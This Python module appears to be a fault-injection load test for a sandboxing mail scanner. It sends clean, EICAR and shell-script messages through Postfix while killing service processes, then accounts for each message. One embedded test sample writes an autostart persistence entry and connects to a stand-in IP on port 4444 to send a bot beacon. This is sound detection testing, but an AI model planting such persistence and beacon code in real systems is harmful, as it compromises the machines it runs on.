"""The fault-injection load: a mixed stream of messages through the lab Postfix while the parts of
mailvm are killed with SIGKILL in turn, then an account of every message (issue 12, fault injection).

* The **sender** behaves like a sending MTA: each message is one SMTP transaction; a 4xx answer (or
  a refused connection) puts it back in line for a later attempt, a 5xx answer is final (the sender
  would bounce it), 250 hands it to Postfix.
* The **killer** sends SIGKILL, at set fractions of the load, to: the milter (``mailvm serve`` itself;
  restarted a moment later, as a service manager would), the pool service, one scan worker and one
  slot's agent (a busy one when there is one).  After the milter's kill it checks that no process of
  the killed tree is left.
* The **account**: every message must end delivered (found in the Maildir by its Message-ID, with a
  verdict header), rejected (5xx), or quarantined (in mailvm's store) - or held by Postfix.
  ``lost`` is what is none of these; ``deferred_then_delivered`` counts delivered messages that were
  deferred (4xx) at least once first.

Message classes: clean text, EICAR in a zip (default domain: rejected; ``quarantine.test``:
quarantined), an unseen harmless shell script, and an unseen malicious one (autostart entry plus a
connection to a raw IP) - each script is new (a nonce), so each is detonated.
"""

from __future__ import annotations

import email
import email.policy
import io
import os
import random
import signal
import smtplib
import threading
import time
import uuid
import zipfile
from collections import Counter
from dataclasses import dataclass, field
from email.message import EmailMessage
from pathlib import Path
from typing import Any

from maillab import EICAR

from mailvm.procfs import find_processes, is_gone, process_tree, start_ticks, stat_fields

MALICIOUS_SCRIPT = """#!/bin/sh
# {nonce}
mkdir -p "$HOME/.config/autostart"
printf '[Desktop Entry]\\nType=Application\\nName=updater\\nExec=/tmp/.updater\\n' > "$HOME/.config/autostart/evil.desktop"
python3 -c 'import socket; s = socket.create_connection(("203.0.113.10", 4444), timeout=5); s.sendall(b"HELLO bot\\n"); s.close()'
"""
BENIGN_SCRIPT = "#!/bin/sh\n# {nonce}\necho 'nightly build {nonce} done'\n"

#: class -> share of the load
MIX = (("clean", 0.4), ("eicar_reject", 0.1), ("eicar_quarantine", 0.1), ("script_benign", 0.2),
       ("script_malicious", 0.2))
MALICIOUS_CLASSES = ("eicar_reject", "eicar_quarantine", "script_malicious")
KILL_ORDER = ("milter", "pool", "worker", "agent", "supervisor")
#: lines of the mailvm log counted in the account: how each kill was absorbed (regular expressions)
LOG_EVENTS = {
    "detonations completed": r" detonated [0-9a-f]{12} ",
    "scan retried on a fresh worker (worker died)": r"scan worker died .*; retrying once",
    "claim of a dead pool's job taken over at once": r"claim on [0-9a-f]{64} by '[^']*:pool-[0-9a-f]+' went stale",
    "slot failures (job retried on a fresh slot)": r"slot \S+ failed under",
    "pool service restarts": r"pool service exited",
    "scan worker pool replaced (a worker died idle)": r"the scan worker pool stopped",
    "popped jobs not run (verdict known / queued again)": r"pool service: not running",
}


def log_events(text: str) -> dict[str, int]:
    import re

    return {name: len(re.findall(pattern, text)) for name, pattern in LOG_EVENTS.items()}


@dataclass
class Item:
    idx: int
    cls: str
    rcpt: str
    message_id: str
    raw: bytes
    attempts: int = 0
    deferred: int = 0
    final: str = ""  # accepted | rejected | "" (still deferred)
    last_reply: str = ""
    not_before: float = 0.0
    #: the 4xx answers (or lost connections) this message met before its final one
    deferrals: list[str] = field(default_factory=list)


@dataclass
class Kill:
    target: str
    pid: int
    at_s: float
    answered_before: int  # messages with a final answer when the kill happened
    note: str = ""


@dataclass
class Account:
    sent: int
    by_class: dict[str, int]
    delivered: int
    deferred_then_delivered: int
    rejected: int
    quarantined: int
    held: int
    lost: list[int]
    still_deferred: list[int]
    duplicates: list[int]
    delivered_without_verdict: list[int]
    malicious_delivered: dict[str, list[str]]  # class -> verdict headers of delivered malicious messages
    clean_not_delivered: list[int]
    outcomes_by_class: dict[str, dict[str, int]]
    kills: list[Kill] = field(default_factory=list)
    leftovers_after_milter_kill: list[str] = field(default_factory=list)
    detonations: int = 0
    unseen_scripts: int = 0
    #: what the service log says about the recovery (see LOG_EVENTS)
    log_events: dict[str, int] = field(default_factory=dict)
    #: every 4xx answer met on the way, by reply (queue ids and numbers left out), most frequent first
    deferral_replies: dict[str, int] = field(default_factory=dict)
    attempts: int = 0
    duration_s: float = 0.0

    def as_dict(self) -> dict[str, Any]:
        d = dict(self.__dict__)
        d["kills"] = [k.__dict__ for k in self.kills]
        d["lost"], d["still_deferred"] = len(self.lost), len(self.still_deferred)
        return d


def _zip(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(name, data)
    return buf.getvalue()


def build_messages(n: int, seed: int = 12) -> list[Item]:
    rng = random.Random(seed)
    classes = [c for c, share in MIX for _ in range(max(1, round(n * share)))]
    while len(classes) < n:
        classes.append("clean")
    classes = classes[:n]
    rng.shuffle(classes)
    run = uuid.uuid4().hex[:10]
    items = []
    eicar_zip = _zip("eicar.com", EICAR)
    for i, cls in enumerate(classes):
        nonce = f"{run}-{i}"
        m = EmailMessage()
        m["From"] = "Load <load@outside.test>"
        rcpt = f"u{i}@quarantine.test" if cls == "eicar_quarantine" else f"u{i}@example.com"
        m["To"] = rcpt
        m["Subject"] = f"fault-injection {cls} {i}"
        mid = f"<fi-{nonce}@outside.test>"
        m["Message-ID"] = mid
        m.set_content(f"Message {i} of the fault-injection load ({cls}).\n")
        if cls.startswith("eicar"):
            m.add_attachment(eicar_zip, maintype="application", subtype="zip", filename=f"invoice{i}.zip")
        elif cls == "script_benign":
            m.add_attachment(BENIGN_SCRIPT.format(nonce=nonce).encode(), maintype="application",
                             subtype="x-sh", filename=f"build{i}.sh")
        elif cls == "script_malicious":
            m.add_attachment(MALICIOUS_SCRIPT.format(nonce=nonce).encode(), maintype="application",
                             subtype="x-sh", filename=f"update{i}.sh")
        items.append(Item(i, cls, rcpt, mid, m.as_bytes()))
    return items


class Load:
    """Sends the items with ``threads`` concurrent SMTP clients, retrying 4xx like an MTA."""

    def __init__(self, items: list[Item], smtp_port: int, threads: int = 4, retry_s: float = 5.0) -> None:
        self.items = items
        self.port = smtp_port
        self.threads = threads
        self.retry_s = retry_s
        self._lock = threading.Lock()
        self._next = 0
        self._retry: list[Item] = []
        self.first_attempts = 0
        self.stop_at = 0.0

    def _take(self) -> Item | None:
        with self._lock:
            now = time.monotonic()
            for it in self._retry:
                if it.not_before <= now:
                    self._retry.remove(it)
                    return it
            if self._next < len(self.items):
                it = self.items[self._next]
                self._next += 1
                self.first_attempts += 1
                return it
            return None

    def completed(self) -> int:
        """Messages with a final answer (250 or 5xx)."""
        with self._lock:
            return sum(1 for it in self.items if it.final)

    def pending(self) -> int:
        with self._lock:
            return len(self.items) - self._next + len(self._retry)

    def _send(self, it: Item) -> None:
        it.attempts += 1
        code, text = 250, ""
        try:
            with smtplib.SMTP("127.0.0.1", self.port, timeout=600) as smtp:
                refused = smtp.sendmail("load@outside.test", [it.rcpt], it.raw)
            if refused:
                code, text = next(iter(refused.values()))
        except smtplib.SMTPRecipientsRefused as exc:
            code, text = next(iter(exc.recipients.values()))
        except smtplib.SMTPResponseException as exc:
            code, text = exc.smtp_code, exc.smtp_error
        except (smtplib.SMTPException, OSError) as exc:  # connection lost or refused: try again later
            code, text = 421, repr(exc).encode()
        it.last_reply = f"{code} {text.decode('utf-8', 'replace') if isinstance(text, bytes) else text}"[:200]
        if code < 400:
            it.final = "accepted"
        elif code >= 500:
            it.final = "rejected"
        else:
            it.deferred += 1
            it.deferrals.append(it.last_reply)
            it.not_before = time.monotonic() + self.retry_s
            with self._lock:
                self._retry.append(it)

    def _worker(self) -> None:
        while time.monotonic() < self.stop_at:
            it = self._take()
            if it is None:
                if self.pending() == 0:
                    return
                time.sleep(0.2)
                continue
            self._send(it)

    def run(self, budget_s: float) -> None:
        self.stop_at = time.monotonic() + budget_s
        ts = [threading.Thread(target=self._worker, name=f"load-{i}", daemon=True) for i in range(self.threads)]
        for t in ts:
            t.start()
        for t in ts:
            t.join()


# ------------------------------------------------------------------ finding the processes to kill

def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def _ppid(pid: int) -> int:
    f = stat_fields(pid) or []
    return int(f[1]) if len(f) > 1 else 0


def _spawned_child(parent: int) -> int | None:
    for p in process_tree(parent):
        if _ppid(p) == parent and b"spawn_main" in _cmdline(p) and not is_gone(p):
            return p
    return None


def pool_supervisor(serve_pid: int) -> int | None:
    """The pool supervisor (root): the child of ``mailvm serve`` started by multiprocessing's spawn."""
    return _spawned_child(serve_pid)


def pool_service(serve_pid: int) -> int | None:
    """The pool service: the supervisor's child (mailvm.cli.mailvm_main._pool_supervisor_main)."""
    sup = pool_supervisor(serve_pid)
    return _spawned_child(sup) if sup is not None else None


def scan_workers(serve_pid: int) -> list[int]:
    """The scan workers: children of the forkserver that ``mailvm serve`` started."""
    servers = [p for p in process_tree(serve_pid) if _ppid(p) == serve_pid and b"forkserver" in _cmdline(p)]
    return [p for s in servers for p in process_tree(s) if p != s and not is_gone(p)]


def _cpu_ticks(pid: int) -> int:
    f = stat_fields(pid) or []
    return int(f[11]) + int(f[12]) if len(f) > 12 else -1  # utime + stime (fields 14 and 15)


def busy_worker(serve_pid: int, window_s: float = 0.3) -> int | None:
    """A scan worker that is working on a message: one that used CPU in the last ``window_s`` (an idle
    worker blocks on its task pipe; a busy one analyses, or polls the table for a verdict)."""
    before = {p: _cpu_ticks(p) for p in scan_workers(serve_pid)}
    time.sleep(window_s)
    gained = {p: _cpu_ticks(p) - t for p, t in before.items() if t >= 0 and not is_gone(p)}
    busy = [p for p, d in sorted(gained.items(), key=lambda kv: -kv[1]) if d > 0]
    return busy[0] if busy else None


def agents(root: Path) -> list[int]:
    return find_processes(b"mailvm.guest.agent", str(root).encode())


def busy_agent(root: Path) -> int | None:
    """An agent running a sample (it has processes under it), else None."""
    for a in agents(root):
        if len(process_tree(a)) > 2:
            return a
    return None


class Killer:
    """Kills one part per kill point; ``restart_milter()`` is called after the milter's kill."""

    def __init__(self, lab: Any, root: Path, load: Load, points: list[float], targets=KILL_ORDER) -> None:
        self.lab = lab
        self.root = root
        self.load = load
        self.points = points
        self.targets = list(targets)
        self.kills: list[Kill] = []
        self.leftovers: list[str] = []
        self.t0 = time.monotonic()
        self.errors: list[str] = []

    def run(self) -> None:
        n = len(self.load.items)
        for frac, target in zip(self.points, self.targets):
            # after a share of the messages is answered (so each kill meets a service that recovered
            # from the previous one), and with work in flight: a detonation running where there is one
            while self.load.completed() < frac * n and time.monotonic() < self.load.stop_at:
                time.sleep(0.1)
            end = time.monotonic() + 20
            while target in ("milter", "pool") and busy_agent(self.root) is None and time.monotonic() < end:
                time.sleep(0.1)
            try:
                self._kill(target)
            except Exception as exc:  # reported in the account, never silently skipped
                self.errors.append(f"{target}: {exc!r}")

    def _kill(self, target: str) -> None:
        serve = self.lab.proc.pid
        pid = None
        note = "a detonation was running" if target in ("milter", "pool") and busy_agent(self.root) else ""
        if target == "milter":
            tree = {p: start_ticks(p) for p in process_tree(serve) if p != serve}
            pid = serve
            os.kill(serve, signal.SIGKILL)
            self.lab.proc.wait(timeout=30)
            killed_at = time.monotonic()
            end = killed_at + 30
            alive = lambda: [p for p, t in tree.items() if not is_gone(p) and start_ticks(p) == t]  # noqa: E731
            while time.monotonic() < end and alive():
                time.sleep(0.1)
            self._record(target, pid, f"{len(tree)} processes under it, all gone {time.monotonic() - killed_at:.1f} s "
                         "later" + (f"; {note}" if note else ""), at=killed_at)
            self.leftovers = [_cmdline(p).replace(b"\0", b" ")[:120].decode("ascii", "replace") for p in alive()]
            time.sleep(1.0)  # a service manager restarts it a moment later
            self.lab.proc = None
            self.lab.start_mailvm()
            return
        if target == "supervisor":
            # the root process that restarts the pool: a serve that gave up root cannot start it again,
            # so it stops (loudly) and its service manager starts it; a serve still root restarts it
            pid = pool_supervisor(serve)
            if pid is None:
                raise RuntimeError("no supervisor process to kill")
            tree = {p: start_ticks(p) for p in process_tree(serve) if p != serve}
            os.kill(pid, signal.SIGKILL)
            killed_at = time.monotonic()
            end = killed_at + 60
            while time.monotonic() < end and self.lab.proc.poll() is None and pool_supervisor(serve) in (None, pid):
                time.sleep(0.1)
            if self.lab.proc.poll() is not None:
                alive = lambda: [p for p, t in tree.items() if not is_gone(p) and start_ticks(p) == t]  # noqa: E731
                while time.monotonic() < end and alive():
                    time.sleep(0.1)
                self._record(target, pid, f"serve stopped (exit {self.lab.proc.returncode}) after "
                             f"{time.monotonic() - killed_at:.1f} s, {len(alive())} processes left; restarted",
                             at=killed_at)
                self.leftovers += [_cmdline(p).replace(b"\0", b" ")[:120].decode("ascii", "replace") for p in alive()]
                time.sleep(1.0)
                self.lab.proc = None
                self.lab.start_mailvm()
            else:
                self._record(target, pid, "serve started a new supervisor", at=killed_at)
            return
        end = time.monotonic() + 30
        while time.monotonic() < end and pid is None:
            if target == "pool":
                pid = pool_service(serve)
            elif target == "worker":
                # a worker with a message in hand (its message must then be retried on a fresh one);
                # an idle one only if none was seen busy for 20 s
                pid = busy_worker(serve)
                note = "busy" if pid is not None else ""
                if pid is None and time.monotonic() > end - 10:
                    ws = scan_workers(serve)
                    pid, note = (ws[0], "idle") if ws else (None, "")
            elif target == "agent":
                pid = busy_agent(self.root)
                if pid is None and time.monotonic() > end - 10:
                    found = agents(self.root)
                    pid, note = (found[0], "idle") if found else (None, "")
            if pid is None:
                time.sleep(0.1)
        if pid is None:
            raise RuntimeError(f"no {target} process to kill")
        os.kill(pid, signal.SIGKILL)
        self._record(target, pid, note)

    def _record(self, target: str, pid: int, note: str, at: float | None = None) -> None:
        at = time.monotonic() if at is None else at
        self.kills.append(Kill(target, pid, round(at - self.t0, 1), self.load.completed(), note))


# ------------------------------------------------------------------ the account

def _header_block(raw: bytes) -> email.message.Message:
    head = raw.split(b"\n\n", 1)[0].split(b"\r\n\r\n", 1)[0]
    return email.message_from_bytes(head + b"\n\n", policy=email.policy.compat32)


def delivered_by_id(postfix: Any) -> dict[str, list[email.message.Message]]:
    out: dict[str, list[email.message.Message]] = {}
    for raw in postfix.delivered():
        h = _header_block(raw)
        out.setdefault((h.get("Message-ID") or "").strip(), []).append(h)
    return out


def quarantined_ids(store: Any) -> set[str]:
    ids = set()
    for item in store.list():
        try:
            ids.add((_header_block(store.read_message(item.id)).get("Message-ID") or "").strip())
        except KeyError:
            continue
    return ids


def held_ids(postfix: Any) -> set[str]:
    """Message-IDs of what Postfix holds (its hold queue), read from the queue files."""
    import subprocess

    ids = set()
    hold = Path(postfix.queue_dir) / "hold"
    if not hold.is_dir():
        return ids
    for f in hold.rglob("*"):
        if f.is_file():
            res = subprocess.run(["postcat", "-c", str(postfix.config_dir), "-h", str(f)],
                                 capture_output=True, timeout=30)
            for line in res.stdout.splitlines():
                if line.lower().startswith(b"message-id:"):
                    ids.add(line.split(b":", 1)[1].strip().decode("ascii", "replace"))
    return ids


def account(items: list[Item], postfix: Any, store: Any) -> Account:
    delivered = delivered_by_id(postfix)
    quarantined = quarantined_ids(store)
    held = held_ids(postfix)
    lost, still, dups, noverdict, clean_bad = [], [], [], [], []
    mal: dict[str, list[str]] = {c: [] for c in MALICIOUS_CLASSES}
    n_deliv = n_dtd = n_rej = n_q = n_h = 0
    outcomes: dict[str, Counter] = {}
    for it in items:
        copies = delivered.get(it.message_id, [])
        if len(copies) > 1:
            dups.append(it.idx)
        if it.final == "rejected":
            what = "rejected"
            n_rej += 1
        elif copies:
            what = "delivered"
            n_deliv += 1
            n_dtd += it.deferred > 0
            for h in copies:
                if not h.get("X-Mailvm-Verdict"):
                    noverdict.append(it.idx)
                if it.cls in mal:
                    mal[it.cls].append(str(h.get("X-Mailvm-Verdict")))
        elif it.message_id in quarantined:
            what = "quarantined"
            n_q += 1
        elif it.message_id in held:
            what = "held"
            n_h += 1
        elif it.final == "":
            what = "still_deferred"
            still.append(it.idx)
        else:
            what = "lost"
            lost.append(it.idx)
        if it.cls == "clean" and what != "delivered":
            clean_bad.append(it.idx)
        outcomes.setdefault(it.cls, Counter())[what] += 1
    return Account(
        sent=len(items), by_class=dict(Counter(it.cls for it in items)), delivered=n_deliv,
        deferred_then_delivered=n_dtd, rejected=n_rej, quarantined=n_q, held=n_h, lost=lost,
        still_deferred=still, duplicates=dups, delivered_without_verdict=noverdict,
        malicious_delivered={k: v for k, v in mal.items() if v}, clean_not_delivered=clean_bad,
        outcomes_by_class={k: dict(v) for k, v in outcomes.items()},
        unseen_scripts=sum(1 for it in items if it.cls.startswith("script")),
        deferral_replies=dict(Counter(_reply_kind(r) for it in items for r in it.deferrals).most_common()),
        attempts=sum(it.attempts for it in items),
    )


def _reply_kind(reply: str) -> str:
    """A deferral reply without what differs from message to message (queue ids, counts, times)."""
    import re

    return re.sub(r"\b[0-9A-F]{8,}\b|\b\d+(\.\d+)? ?s\b", "*", reply)[:120]


def wait_queue_empty(postfix: Any, timeout: float) -> bool:
    """Wait until Postfix has delivered everything it accepted (held mail stays, and is counted)."""
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        q = postfix.queue()
        lines = [ln for ln in q.splitlines() if ln[:1].isalnum() and "!" not in ln.split(" ", 1)[0]
                 and not ln.startswith("-")]
        if "Mail queue is empty" in q or not lines:
            return True
        postfix.flush()
        time.sleep(1.0)
    return False
